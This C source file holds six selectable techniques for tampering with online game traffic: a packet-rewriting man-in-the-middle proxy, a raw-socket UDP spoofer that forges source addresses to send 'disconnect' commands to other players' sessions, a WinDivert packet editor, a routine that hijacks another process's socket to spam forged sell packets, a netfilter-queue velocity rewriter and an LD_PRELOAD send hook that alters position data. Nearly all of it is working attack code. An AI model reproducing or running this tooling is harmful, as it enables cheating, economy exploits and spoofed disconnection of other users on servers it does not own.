/* technique mitm_proxy windows at=pump,tamper libs=ws2_32
   technique spoof_udp windows at=build,fire libs=ws2_32
   technique divert_edit windows at=loop,edit stub=WinDivert:WinDivertOpen,WinDivertRecv,WinDivertSend,WinDivertHelperParsePacket,WinDivertHelperCalcChecksums,WinDivertClose
   technique own_socket windows at=send_forged,spam libs=ws2_32
   technique queue_rewrite linux at=on_packet stub=netfilter_queue:nfq_open,nfq_bind_pf,nfq_create_queue,nfq_set_mode,nfq_fd,nfq_handle_packet,nfq_get_msg_packet_hdr,nfq_get_payload,nfq_set_verdict
   technique send_wrap linux-library at=send,sendto,retouch */
#include "common.h"
#if defined T_mitm_proxy

struct pair { SOCKET client, server; };
static const char *upstream = "203.0.113.20";
static unsigned dup_next;

APART int tamper(unsigned char *p, int n) {
    for (int at = 0; at + 4 <= n;) {
        int size = p[at] | p[at + 1] << 8, op = p[at + 2] | p[at + 3] << 8;
        if (size < 4 || at + size > n) break;
        if (op == 0x0113 && size >= 12) *(unsigned *)(p + at + 8) = 9999;
        if (op == 0x00A7) p[at + 4] ^= 0x20;
        if (op == 0x01E2) dup_next = size;
        at += size;
    }
    return n;
}
APART void pump(SOCKET from, SOCKET to, int change) {
    unsigned char buffer[8192];
    int n;
    while ((n = F(recv)(from, (char *)buffer, sizeof buffer, 0)) > 0) {
        if (change) n = tamper(buffer, n);
        F(send)(to, (char *)buffer, n, 0);
        for (; change && dup_next; dup_next = 0) F(send)(to, (char *)buffer, n, 0);
    }
    F(shutdown)(to, SD_SEND);
}
static DWORD WINAPI down(void *arg) {
    struct pair *p = arg;
    pump(p->server, p->client, 0);
    return 0;
}
static DWORD WINAPI up(void *arg) {
    struct pair *p = arg;
    struct sockaddr_in a = {AF_INET, htons(6900)};
    a.sin_addr.s_addr = inet_addr(upstream);
    p->server = F(socket)(AF_INET, SOCK_STREAM, 0);
    if (F(connect)(p->server, (void *)&a, sizeof a)) return 1;
    CreateThread(0, 0, down, p, 0, 0);
    pump(p->client, p->server, 1);
    return 0;
}
int main(void) {
    WSADATA w;
    struct sockaddr_in a = {AF_INET, htons(6900)};
    WSAStartup(MAKEWORD(2, 2), &w);
    SOCKET s = F(socket)(AF_INET, SOCK_STREAM, 0);
    F(bind)(s, (void *)&a, sizeof a);
    F(listen)(s, 4);
    for (;;) {
        struct pair *p = calloc(1, sizeof *p);
        p->client = F(accept)(s, 0, 0);
        CreateThread(0, 0, up, p, 0, 0);
    }
}

#elif defined T_spoof_udp

#pragma pack(push, 1)
struct ip4 { BYTE vihl, tos; WORD length, id, fragment; BYTE ttl, protocol; WORD sum; DWORD from, to; };
struct udp { WORD from, to, length, sum; };
struct forged { struct ip4 ip; struct udp udp; BYTE data[64]; };
#pragma pack(pop)

static WORD checksum(const void *data, int n) {
    const WORD *w = data;
    DWORD sum = 0;
    for (; n > 1; n -= 2) sum += *w++;
    while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
    return (WORD)~sum;
}
APART int build(struct forged *f, DWORD from, WORD from_port, DWORD to, WORD to_port, const char *command) {
    int n = sprintf((char *)f->data, "\xff\xff\xff\xff%s", command);
    memset(f, 0, sizeof f->ip + sizeof f->udp);
    f->ip.vihl = 0x45;
    f->ip.length = htons((WORD)(sizeof f->ip + sizeof f->udp + n));
    f->ip.ttl = 64;
    f->ip.protocol = IPPROTO_UDP;
    f->ip.from = from;
    f->ip.to = to;
    f->ip.sum = checksum(&f->ip, sizeof f->ip);
    f->udp = (struct udp){htons(from_port), htons(to_port), htons((WORD)(sizeof f->udp + n))};
    return sizeof f->ip + sizeof f->udp + n;
}
APART int fire(SOCKET s, const struct forged *f, int n) {
    struct sockaddr_in to = {AF_INET, f->udp.to};
    to.sin_addr.s_addr = f->ip.to;
    return F(sendto)(s, (const char *)f, n, 0, (void *)&to, sizeof to);
}
int main(int argc, char **argv) {
    WSADATA w;
    BOOL on = TRUE;
    struct forged f;
    WSAStartup(0x202, &w);
    SOCKET s = F(socket)(AF_INET, SOCK_RAW, IPPROTO_RAW);
    F(setsockopt)(s, IPPROTO_IP, IP_HDRINCL, (char *)&on, sizeof on);
    for (int port = 27005; port < 27020; port++)
        fire(s, &f, build(&f, inet_addr(argv[1]), port, inet_addr(argv[2]), 27015, "disconnect"));
    closesocket(s);
}

#elif defined T_divert_edit
HANDLE WINAPI WinDivertOpen(const char *, int, INT16, UINT64);
BOOL WINAPI WinDivertRecv(HANDLE, void *, UINT, UINT *, void *);
BOOL WINAPI WinDivertSend(HANDLE, const void *, UINT, UINT *, const void *);
BOOL WINAPI WinDivertHelperParsePacket(const void *, UINT, void **, void **, BYTE *, void **, void **, void **, void **, void **, UINT *, void **, UINT *);
BOOL WINAPI WinDivertHelperCalcChecksums(void *, UINT, void *, UINT64);
BOOL WINAPI WinDivertClose(HANDLE);

struct rule { BYTE op; WORD at; float factor; };
static const struct rule rules[] = {{0x21, 6, 1.6f}, {0x34, 14, 0.0f}, {0x35, 2, 10.f}};
static BYTE packet[65536];

APART BOOL edit(BYTE *data, UINT size) {
    BOOL changed = FALSE;
    for (int i = 0; i < 3; i++)
        if (size >= rules[i].at + 4u && data[0] == rules[i].op) {
            float value;
            memcpy(&value, data + rules[i].at, 4);
            value *= rules[i].factor;
            memcpy(data + rules[i].at, &value, 4);
            changed = TRUE;
        }
    return changed;
}
APART void loop(HANDLE divert) {
    BYTE address[80];
    UINT n, size;
    void *data;
    while (WinDivertRecv(divert, packet, sizeof packet, &n, address)) {
        data = NULL;
        WinDivertHelperParsePacket(packet, n, 0, 0, 0, 0, 0, 0, 0, &data, &size, 0, 0);
        if (data && edit(data, size)) WinDivertHelperCalcChecksums(packet, n, address, 0);
        WinDivertSend(divert, packet, n, NULL, address);
    }
}
int main(void) {
    HANDLE divert = WinDivertOpen("outbound and udp.DstPort == 7777", 0, 0, 0);
    if (divert == INVALID_HANDLE_VALUE) return F(GetLastError)();
    loop(divert);
    WinDivertClose(divert);
}

#elif defined T_own_socket

static SOCKET game_socket;
static SOCKET find_socket(WORD port) {
    for (UINT_PTR h = 4; h < 0x4000; h += 4) {
        struct sockaddr_in peer;
        int n = sizeof peer;
        if (!F(getpeername)((SOCKET)h, (struct sockaddr *)&peer, &n) && peer.sin_port == htons(port)) return (SOCKET)h;
    }
    return INVALID_SOCKET;
}
static BYTE sequence_sum(const BYTE *p, int n) {
    BYTE sum = 0x5A;
    while (n--) sum = (BYTE)((sum << 1 | sum >> 7) ^ *p++);
    return sum;
}
APART int send_forged(WORD op, const void *body, BYTE n) {
    BYTE p[270];
    *(WORD *)p = (WORD)(n + 5);
    *(WORD *)(p + 2) = op;
    memcpy(p + 4, body, n);
    p[4 + n] = sequence_sum(p, 4 + n);
    return F(send)(game_socket, (char *)p, n + 5, 0) == n + 5;
}
APART void spam(int item) {
    struct { int slot, count, price; } sell = {item, -1, 1};
    for (int i = 0; i < 100; i++) {
        sell.slot = item + i;
        if (!send_forged(0x00C9, &sell, sizeof sell)) break;
        Sleep(40);
    }
}
int main(void) {
    while ((game_socket = find_socket(5121)) == INVALID_SOCKET) Sleep(1000);
    send_forged(0x0089, "\x07", 1);
    spam(2);
}

#elif defined T_queue_rewrite
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <unistd.h>
struct nfq_handle; struct nfq_q_handle; struct nfq_data;
typedef int nfq_callback(struct nfq_q_handle *, void *, struct nfq_data *, void *);
struct nfq_handle *nfq_open(void);
int nfq_bind_pf(struct nfq_handle *, uint16_t);
struct nfq_q_handle *nfq_create_queue(struct nfq_handle *, uint16_t, nfq_callback *, void *);
int nfq_set_mode(struct nfq_q_handle *, uint8_t, uint32_t);
int nfq_fd(struct nfq_handle *);
int nfq_handle_packet(struct nfq_handle *, char *, int);
struct header { uint32_t id; uint16_t protocol; uint8_t hook; } __attribute__((packed));
struct header *nfq_get_msg_packet_hdr(struct nfq_data *);
int nfq_get_payload(struct nfq_data *, unsigned char **);
int nfq_set_verdict(struct nfq_q_handle *, uint32_t, uint32_t, uint32_t, const unsigned char *);

APART int on_packet(struct nfq_q_handle *q, void *message, struct nfq_data *data, void *arg) {
    unsigned char *p;
    int n = nfq_get_payload(data, &p), head = (p[0] & 15) * 4 + 8;
    uint32_t id = ntohl(nfq_get_msg_packet_hdr(data)->id);
    if (n > head + 16 && p[head] == 0x4D && p[head + 1] == 0x56) {
        float *velocity = (float *)(p + head + 4);
        for (int i = 0; i < 3; i++) velocity[i] *= *(float *)arg;
        ((struct udphdr *)(p + head - 8))->uh_sum = 0;
        return nfq_set_verdict(q, id, 1, n, p);
    }
    return nfq_set_verdict(q, id, 1, 0, 0);
}
int main(int argc, char **argv) {
    float factor = argc > 1 ? atof(argv[1]) : 2;
    static char buffer[4096];
    struct nfq_handle *h = nfq_open();
    if (!h || nfq_bind_pf(h, 2) < 0) return 1;
    struct nfq_q_handle *q = nfq_create_queue(h, 7, on_packet, &factor);
    nfq_set_mode(q, 2, 0xffff);
    for (int n; (n = read(nfq_fd(h), buffer, sizeof buffer)) > 0;) nfq_handle_packet(h, buffer, n);
}

#elif defined T_send_wrap
#define _GNU_SOURCE
#include <dlfcn.h>
#include <sys/types.h>
#include <netinet/in.h>

static __thread unsigned char copy[2048];
static int enabled(void) { static int on = -1; return on < 0 ? on = getenv("NOFALL") != 0 : on; }

APART const void *retouch(const void *data, size_t n) {
    if (n < 27 || n > sizeof copy || !enabled()) return data;
    memcpy(copy, data, n);
    if (copy[1] == 0x14) copy[n - 1] = 1;
    if (copy[1] == 0x15) {
        double y;
        uint64_t raw;
        memcpy(&raw, copy + 10, 8);
        raw = __builtin_bswap64(raw);
        memcpy(&y, &raw, 8);
        y += 0.0625;
        memcpy(&raw, &y, 8);
        raw = __builtin_bswap64(raw);
        memcpy(copy + 10, &raw, 8);
    }
    return copy;
}
APART ssize_t send(int s, const void *data, size_t n, int flags) {
    static ssize_t (*next)(int, const void *, size_t, int);
    if (!next) next = dlsym((void *)-1l, "send");
    return next(s, retouch(data, n), n, flags);
}
APART ssize_t sendto(int s, const void *data, size_t n, int flags, const struct sockaddr *to, socklen_t size) {
    static ssize_t (*next)(int, const void *, size_t, int, const struct sockaddr *, socklen_t);
    if (!next) next = dlsym((void *)-1l, "sendto");
    return next(s, retouch(data, n), n, flags, to, size);
}
#endif
